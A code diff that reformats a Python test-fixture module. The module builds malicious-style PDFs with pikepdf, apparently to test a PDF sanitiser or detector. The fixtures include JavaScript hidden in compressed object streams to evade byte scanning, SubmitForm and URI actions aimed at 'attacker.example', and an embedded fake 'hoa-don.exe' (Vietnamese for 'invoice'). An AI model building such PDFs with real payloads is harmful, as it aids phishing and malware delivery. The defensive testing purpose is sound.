@@ -27,7 +27,9 @@ def _with_catalog(**entries) -> bytes:
 def js_in_object_stream() -> bytes:
     """The script sits in a compressed object stream: the raw bytes never spell /JavaScript."""
     pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
-    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
+    action = pdf.make_indirect(
+        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+    )
     pdf.Root.OpenAction = action
     data = _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
     assert b"/JavaScript" not in data and b"/JS" not in data
@@ -40,12 +42,16 @@ def launch_action() -> bytes:
 
 def submit_form_action() -> bytes:
     return _with_catalog(
-        OpenAction=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://attacker.example/"))
+        OpenAction=pikepdf.Dictionary(
+            S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://attacker.example/")
+        )
     )
 
 
 def uri_action() -> bytes:
-    return _with_catalog(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://attacker.example/")))
+    return _with_catalog(
+        OpenAction=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://attacker.example/"))
+    )
 
 
 def hex_escaped_names() -> bytes:
@@ -58,17 +64,23 @@ def hex_escaped_names() -> bytes:
 
 
 def additional_actions() -> bytes:
-    return _with_catalog(AA=pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]))))
+    return _with_catalog(
+        AA=pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0])))
+    )
 
 
 def embedded_file() -> bytes:
     pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
-    pdf.attachments["hoa-don.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/octet-stream")
+    pdf.attachments["hoa-don.exe"] = pikepdf.AttachedFileSpec(
+        pdf, b"MZ\x90\x00", mime_type="application/octet-stream"
+    )
     return _save(pdf)
 
 
 def xfa_form() -> bytes:
-    return _with_catalog(AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp:xdp/>")))
+    return _with_catalog(
+        AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp:xdp/>"))
+    )
 
 
 def rich_media() -> bytes:
